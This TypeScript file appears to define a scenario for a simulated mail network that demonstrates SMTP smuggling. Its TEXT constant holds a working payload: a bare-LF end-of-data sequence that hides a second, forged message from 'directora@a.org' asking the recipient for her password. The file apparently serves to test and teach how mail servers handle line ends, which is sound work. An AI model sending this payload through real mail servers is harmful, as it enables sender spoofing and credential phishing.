/** A letter with a second one in it, which only a server that is too generous about line ends will see. */
import type { Action, Host, MailSettings, Scenario } from '../run/scenario.ts';
import { hostsWith, saysInDns, town } from './town.ts';

/** Mallory works at a.org: he may send, but not in the director's name. */
const insider: Host = {
  ...{ id: 'mallory', name: 'laptop.mallory.a.org', address: '192.0.2.66', kind: 'laptop', owner: 'Mallory', side: 'left' },
  agents: ['mua'],
};

/** What crosses as one text: an LF (typed as ␊), a dot, CR LF in the middle of it. */
const TEXT = [
  'From: Mallory <mallory@a.org>\r\nTo: bea@b.com\r\nSubject: Hola\r\n\r\nUna carta corriente.␊.',
  'MAIL FROM:<directora@a.org>',
  'RCPT TO:<bea@b.com>',
  'DATA',
  'From: La directora <directora@a.org>',
  'To: bea@b.com',
  'Subject: Urgente',
  '',
  'Bea, necesito tu clave.',
  '.',
].join('\r\n');

const MINUTE_MS = 60_000;

/**
 * smtp.a.org takes a bare LF for content and passes it on. `mx`: how mx.b.com reads it. SPF cannot help: the line comes from a.org.
 * RFC 5321 §2.3.8 forbids to send a bare LF, and §4.1.1.4 to take anything but CR LF . CR LF for the end.
 */
export function smuggling(id: string, bareLf: MailSettings['bareLf']): Scenario {
  const lines = ['EHLO laptop.mallory.a.org', 'MAIL FROM:<mallory@a.org>', 'RCPT TO:<bea@b.com>', 'DATA', TEXT, 'QUIT'];
  const smuggles: Action = { at: 0, do: 'type', host: 'mallory', to: 'smtp-a', protocol: 'submission', lines };
  return {
    ...town,
    id,
    hosts: [...hostsWith({ 'smtp-a': { mail: { bareLf: 'content' } }, 'mx-b': { mail: { bareLf, verify: { spf: 'enforce' } } } }), insider],
    links: [
      ...town.links,
      { a: 'mallory', b: 'smtp-a', latencyMs: 10, octetsPerMs: 1250 },
      { a: 'mx-b', b: 'dns-a', latencyMs: 10, octetsPerMs: 1250 },
    ],
    zones: saysInDns({ 'a.org': 'v=spf1 ip4:192.0.2.25 -all' }),
    accounts: [...town.accounts, { address: 'mallory@a.org', name: 'Mallory', host: 'smtp-a', password: 'correo' }],
    actions: [smuggles, { at: 5 * MINUTE_MS, do: 'fetch', host: 'bea-laptop' }],
  };
}
